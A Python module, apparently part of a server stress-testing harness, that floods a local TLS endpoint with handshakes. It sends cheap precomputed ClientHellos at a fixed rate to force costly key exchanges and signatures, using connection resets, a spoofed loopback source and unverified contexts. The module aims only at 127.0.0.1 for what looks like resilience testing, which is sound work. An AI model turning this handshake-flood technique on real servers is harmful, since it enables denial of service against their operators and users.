"""Very many TLS handshakes: so many a second, whether or not the server keeps up.

One thread and one epoll. Who only says ClientHello and reads the server's flight has cost the
server a key exchange and a signature, and itself no more than a few system calls, as it says the
same bytes each time. Who finishes pays as much as the server does. Sessions are not resumed.
"""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import struct
import time

from ..loopback import come_from
from .attack import Attack
from .unverified import unverifying

__all__ = ["RESET", "SOURCE", "offer"]

SOURCE = "127.0.0.2"
"""Where they come from: not the address that the canary has."""

A_SECOND = 1_000
ONCE = 20
"""How many where the attack is made once."""

UNANSWERED = 2_000
"""It has so many files for those who wait; who comes then is not offered."""

RESET = struct.pack("ii", 1, 0)  # SO_LINGER: no port is left behind in TIME_WAIT


def client_hello() -> bytes:
    """Return the first thing that a client of TLS 1.3 says."""
    said = ssl.MemoryBIO()
    client = unverifying("h2").wrap_bio(ssl.MemoryBIO(), said)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return said.read()


class _Handshake:
    """One that is under way."""

    def __init__(
        self, port: int, source: str, hello: bytes, context: ssl.SSLContext | None
    ) -> None:
        self.sent = 0
        self._hello = hello
        self._received, self._said = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._client = context.wrap_bio(self._received, self._said) if context else None
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        come_from(source, self.socket)
        self.socket.connect_ex(("127.0.0.1", port))

    def begin(self) -> str | None:
        """Say hello."""
        return self._go_on() if self._client else self._send(self._hello)

    def read(self) -> str | None:
        """Read what has come; say how it ended if it has."""
        try:
            data = self.socket.recv(64 * 1024)
        except BlockingIOError:
            return None
        except OSError:
            return "reset"
        if not data:
            return "closed"
        if self._client is None:
            return "answered"
        self._received.write(data)
        return self._go_on()

    def _go_on(self) -> str | None:
        assert self._client is not None
        end: str | None = "finished"
        try:
            self._client.do_handshake()
        except ssl.SSLWantReadError:
            end = None
        return self._send(self._said.read()) or end

    def _send(self, data: bytes) -> str | None:
        try:
            self.sent += self.socket.send(data)
        except OSError:
            return "reset"
        return None


def offer(attack: Attack, *, finishes: bool) -> None:
    """Begin A_SECOND handshakes a second, and be gone with each that the server has answered."""
    assert attack.tls_port is not None
    hello, context = client_hello(), unverifying("h2") if finishes else None
    under_way: dict[int, _Handshake] = {}
    poll = select.epoll()
    began = time.monotonic()
    once = not attack.is_at_full_strength
    with poll:
        while (attack.connections < ONCE or under_way) if once else attack.goes_on:
            due = ONCE if once else round((time.monotonic() - began) * A_SECOND)
            while attack.connections < due and len(under_way) < UNANSWERED:
                each = _Handshake(attack.tls_port, attack.source or SOURCE, hello, context)
                attack.connections += 1
                under_way[each.socket.fileno()] = each
                poll.register(each.socket, select.EPOLLOUT)
            for number, events in poll.poll(0.001):
                each = under_way[number]
                if events & select.EPOLLOUT:
                    poll.modify(number, select.EPOLLIN)
                    end = each.begin()
                else:
                    end = each.read()
                if end is not None:
                    del under_way[number]
                    _over(attack, each, end)
        for each in under_way.values():
            _over(attack, each, "unanswered")


def _over(attack: Attack, handshake: _Handshake, end: str) -> None:
    attack.ends[end] += 1
    attack.sent += handshake.sent
    handshake.socket.close()
